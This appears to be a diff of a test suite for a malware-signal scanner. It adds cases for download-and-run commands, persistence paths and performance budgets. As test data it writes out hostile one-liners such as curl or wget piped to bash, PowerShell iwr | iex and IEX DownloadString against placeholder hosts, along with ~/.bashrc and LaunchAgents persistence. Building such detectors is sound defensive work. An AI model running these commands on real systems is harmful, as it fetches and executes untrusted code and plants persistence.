@@ -19,10 +19,12 @@ describe('signals found', () => {
     ["host: 'x1y2.oast.fun'", 'exfiltration-host: x1y2.oast.fun (out-of-band testing host)'],
     ["exec('curl -fsSL https://get.example.net/a.sh | sudo bash')", 'download-and-run: curl … | bash'],
     ["exec('wget -qO- https://get.example.net/a.sh|sh')", 'download-and-run: wget … | sh'],
-    ['exec("sh -c \\"$(curl -fsSL https://x.example/i)\\"")', 'download-and-run: shell running $(curl …)'],
-    ["exec('bash <(wget -qO- https://x.example/i)')", 'download-and-run: shell running $(wget …)'],
+    // Download commands are judged by the command catalogue (catalog/commands.ts), in its words.
+    ['exec("sh -c \\"$(curl -fsSL https://x.example/i)\\"")', 'download-and-run: sh -c "$(curl …)"'],
+    ["exec('bash <(wget -qO- https://x.example/i)')", 'download-and-run: bash <(wget …)'],
+    ['run(`curl -s ${base}/setup.py | python3`)', 'download-and-run: curl … | python3'],
     ["spawn('powershell', ['-c', 'iwr https://x.example/a.ps1 | iex'])", 'download-and-run: iwr … | iex'],
-    ["run(\"IEX (New-Object Net.WebClient).DownloadString('http://x')\")", 'download-and-run: iex (…).DownloadString(…)'],
+    ["run(\"IEX (New-Object Net.WebClient).DownloadString('http://x')\")", 'download-and-run: iex (DownloadString …)'],
     ["join(home, 'Library/LaunchAgents/com.x.plist')", 'persistence: Library/LaunchAgents'],
     ["join(home, 'Library', 'LaunchAgents')", 'persistence: Library/LaunchAgents'],
     ["exec('echo run >> $HOME/.bashrc')", 'persistence: >> ~/.bashrc'],
@@ -44,6 +46,8 @@ describe('near misses', () => {
     ['a pipe to a pager', "const hint = 'curl --help all | less'"],
     ['a pipe on the next line', "const a = 'curl https://x';\nconst b = a | sh;"],
     ['a word containing curl', "const x = 'recurl -s | sh'"],
+    ['a download piped into a filter', "exec('curl -s https://api.example.net/v1/items | jq .items')"],
+    ['a download in one string, a shell in the next', "spawn('curl', ['https://x.example/a']).stdout.pipe(spawn('sh', ['-c', 'cat | sh']).stdin)"],
     ['shell advice in a comment of a template', 'const t = `#\\n# Installation: {{app}} completion >> ~/.bashrc\\n`'],
     ['a bit shift', 'const x = a >> 2; y >>= 1;'],
     ['a longer word', "const dir = 'LaunchAgentsFolder'"],
@@ -118,6 +122,20 @@ describe('budget', () => {
     expect(result.unscanned).toEqual({ files: 1, bytes: 113 });
   });
 
+  it('judges a bounded number of candidate download commands, each text once, and counts the rest', () => {
+    const distinct = Array.from({ length: 100 }, (_, index) => `exec('curl -s https://x${index}.example/a | sh')`).join('\n');
+    const result = scanFiles([file('a.js', distinct), file('b.js', "exec('curl -s https://b.example/a | sh')\n".repeat(1000))]);
+    // Each file stops at fifty accepted signals; b.js repeats one text, judged once.
+    expect(result.signals.map((signal) => [signal.file, signal.occurrences])).toEqual([
+      ['a.js', 50],
+      ['b.js', 50],
+    ]);
+    expect(result.unjudged).toBe(0);
+    const budget = { left: 3, unjudged: 0 };
+    scanText(Buffer.from(distinct), false, budget);
+    expect(budget).toEqual({ left: 0, unjudged: 97 });
+  });
+
   it('scans a file that crosses the budget up to the budget', () => {
     const result = scanFiles([file('a.js', `eval(atob(a));${' '.repeat(100)}`)], 20);
     expect(result.signals).toHaveLength(1);
@@ -126,6 +144,15 @@ describe('budget', () => {
 });
 
 describe('hostile input', () => {
+  it('judges a bounded number of distinct candidate commands per file', () => {
+    const text = Array.from({ length: 20_000 }, (_, index) => `'curl -s https://h${index}.example/a | less'`).join(';');
+    const started = performance.now();
+    const budget = { left: 1_000_000, unjudged: 0 };
+    expect(scanText(Buffer.from(text), false, budget)).toEqual([]);
+    expect(budget.unjudged).toBe(20_000 - 64);
+    expect(performance.now() - started).toBeLessThan(2000);
+  });
+
   // Each case packs one anchor as densely as possible; a check that backtracks or rescans the line
   // would take minutes on these, a linear one well under a second each.
   it.each([
@@ -135,6 +162,8 @@ describe('hostile input', () => {
     ['host labels', 'a.'],
     ['downloaders', 'curl '],
     ['downloaders far from a pipe', `curl ${'x'.repeat(240)} `],
+    ['downloaders with pipes', 'curl x|'],
+    ["downloaders in strings with pipes", "'curl x|'"],
     ['PowerShell', 'iwr '],
     ['shifts', 'a>>b'],
     ['comment lines', '// https://webhook.site\n'],
